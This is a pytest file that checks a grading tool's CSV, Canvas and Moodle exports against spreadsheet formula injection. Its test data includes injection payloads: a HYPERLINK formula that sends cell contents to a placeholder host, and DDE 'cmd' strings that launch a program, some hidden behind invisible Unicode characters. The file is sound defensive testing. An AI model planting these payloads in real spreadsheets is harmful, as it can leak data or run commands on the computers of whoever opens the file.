"""No cell that Kvasir writes becomes a formula, wherever a spreadsheet cuts the lines, and all is read back."""

import csv
import io
import random
import re
from pathlib import Path

import pytest

from grading.export.canvas import export_canvas
from grading.export.moodle import export_moodle
from grading.export.plain import export_csv
from grading.points import CriterionGrade, Grade
from grading.report.grades import GradedClass, save_graded, write_grades_csv
from grading.rubric.rubric import parse_rubric
from grading.tables import Sheet, read_sheet, write_sheet

FORMULA = '=HYPERLINK("http://x/"&A1)'
BEFORE = [
    *("", ";", "a;", "a; ", 'a;"', "a,", "a, ", "a\t", "a ", 'a "', "a\n", "a\r", "\t", " "),
    *("\u00a0", "a;\u200b", "\u00ad", "a;\u202e\u2066", "a \u200b", "a \u3000"),
]
FORMULAS = (FORMULA, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "＝1+1")
HOSTILE = [f"{before}{formula}" for before in BEFORE for formula in FORMULAS]
NAMES = ["O'Neill", "=cmd", "-5", "+49 123", "@home", "'=x", "D'-A", "", "-", "1,5", "−3", "'", "''-5", "a;=b"]
NAMES += ["x - y = z", "#1"]
HEADER = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Homework 4 (701)"]


def dangerous(data: bytes) -> list[str]:
    """Cells that a spreadsheet with any of four delimiters would compute; numbers, and a lone dash, are none."""
    text = data.decode("utf-8-sig")
    cells = [
        cell
        for delimiter in (",", ";", "\t", " ")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]
    return [
        cell
        for cell in cells
        if re.match(r"[\s\u00ad\u200b\u202e\u2066]*[=+\-@＝]", cell)
        and not re.fullmatch(r"[+-]?[\d.,]+%?|[-+=@]", cell.strip())
    ]


def a_grade(text: str, **more: str) -> Grade:
    criteria = (CriterionGrade("works", "Works", 3, 2, feedback=text, evidence=text, evidence_state="found"),)
    return Grade(more.get("name", "ada_48101_9_hw.py"), "graded", 2, 3, criteria, text, reason=text)


def test_the_check_sees_what_it_is_for() -> None:
    assert dangerous(b'"Ada","x;=1+1"\n')
    assert dangerous(b'"Ada","=1+1"\n')
    assert not dangerous(b'"Ada","-3","7 - 2"\n')


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_is_computed_and_every_cell_comes_back(text: str, delimiter: str) -> None:
    sheet = Sheet([HEADER, [text, "48101", text, "", "A", "-3"], ["", text, "", text, "A", ""]], delimiter)

    data = write_sheet(sheet)

    assert dangerous(data) == []
    assert read_sheet(data, "gradebook").rows == sheet.rows
    assert all(
        re.fullmatch(r'"([^"]|"")*"', cell) for cell in re.findall(r'"(?:[^"]|"")*"|[^,;\t\r\n]+', data.decode())
    )


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_names_in_a_gradebook_come_back_letter_by_letter(delimiter: str) -> None:
    sheet = Sheet([HEADER, *([name, "1", name, name, "A", "-3"] for name in NAMES)], delimiter, bom=True)

    once = write_sheet(sheet)

    assert read_sheet(once, "gradebook") == sheet
    assert write_sheet(read_sheet(once, "gradebook")) == once


def test_any_text_comes_back_and_is_safe() -> None:
    chance = random.Random(7)
    for _ in range(400):
        rows = [
            ["".join(chance.choices("=+-@;,\t\n\r\"' a5\u00a0.", k=chance.randrange(9))) for _ in range(3)]
            for _ in "ab"
        ]
        data = write_sheet(Sheet(rows))
        assert read_sheet(data, "file").rows == rows
        text = data.decode()
        for delimiter in ",;\t":
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
                for cell in row:
                    assert not re.match(r"\s*[=+\-@]", cell) or re.fullmatch(r"\s*([+-]?[\d.,]+%?|-)\s*", cell), rows


@pytest.mark.parametrize("text", HOSTILE)
def test_no_file_of_a_class_holds_one(tmp_path: Path, text: str) -> None:
    one_line = " ".join(text.split())
    grade = a_grade(text, name=f"{one_line.replace('_', '')}_48101_9_hw.py")
    moodle = a_grade(text, name="Ada_11_assignsubmission_file_")
    save_graded(tmp_path, GradedClass("b", text, 3, (grade, moodle)))
    quoted = text.replace('"', '""')
    gradebook = f'{",".join(HEADER)}\n    Points Possible,,,,,3\n"{quoted}",48101,"{quoted}","{quoted}",A,\n'.encode()
    worksheet = (
        "Identifier,Full name,Grade,Maximum grade,Last modified (grade),Feedback comments\n"
        f'Participant 11,"{quoted}",,3.00,-,"{quoted}"\nParticipant 12,"{quoted}",,3.00,-,"{quoted}"\n'
    ).encode()
    rubric = parse_rubric("r.yaml", "title: T\ncriteria: [{id: works, title: W, points: 3, model: code}]", ".yaml")
    write_grades_csv(tmp_path / "grades.csv", [grade], rubric)

    for data in (
        (tmp_path / "grades.csv").read_bytes(),
        export_csv(tmp_path).data,
        export_canvas(tmp_path, gradebook, "701").data,
        export_moodle(tmp_path, worksheet).data,
    ):
        assert dangerous(data) == []


def test_feedback_in_a_worksheet_reads_as_before(tmp_path: Path) -> None:
    save_graded(
        tmp_path, GradedClass("b", "T", 3, (a_grade("Use x = 3; -1 is wrong.", name="A_11_assignsubmission_file_"),))
    )
    worksheet = b"Identifier,Grade,Last modified (grade),Feedback comments\nParticipant 11,,-,\n"

    [row] = csv.DictReader(io.StringIO(export_moodle(tmp_path, worksheet).data.decode()))

    assert "'" not in row["Feedback comments"].replace("&#x27;", "")
    assert "Use x &#61; 3; &#45;1 is wrong." in row["Feedback comments"]


def test_numbers_and_moodles_dash_stay_as_they_are() -> None:
    row = ["Ada", "-3", "+1.5", "7", "-2,25", "12%", "-", " - "]

    [written] = csv.reader(io.StringIO(write_sheet(Sheet([row])).decode()))

    assert written == row
